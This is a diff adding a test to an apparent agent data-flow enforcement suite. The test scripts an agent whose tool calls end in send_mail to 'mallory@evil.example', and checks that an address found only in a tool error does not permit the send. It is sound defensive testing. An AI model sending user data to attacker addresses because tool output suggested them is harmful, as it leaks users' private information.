@@ -502,6 +502,23 @@ describe('a script', () => {
     expect(await keptAs({ ...page, sensitivity: 'secret' })).toEqual([]);
   });
 
+  test('is not told by the error of a tool that a value may go out', async () => {
+    const run = async (answer: () => unknown) => {
+      const [world, sent]: [World, unknown[]] = [makeWorld(), []];
+      const work: Work = async (call) => {
+        await call('web_fetch', {});
+        await call('contacts', {});
+        return await call('send_mail', { to: 'mallory@evil.example' });
+      };
+      const tools = [scripted(work), fetch, tool('contacts', answer), mail(sent)];
+      await world.run(tools, script(), having(), mode({ mode: 'enforce' }));
+      return sent.length;
+    };
+    const text = 'There is mallory@evil.example';
+    expect(await run(() => text)).toBe(1);
+    expect(await run(() => Promise.reject(new Error(text)))).toBe(0);
+  });
+
   test('cannot send anything after secret and untrusted data', async () => {
     const [world, sent]: [World, unknown[]] = [makeWorld(), []];
     const work: Work = async (call) => {
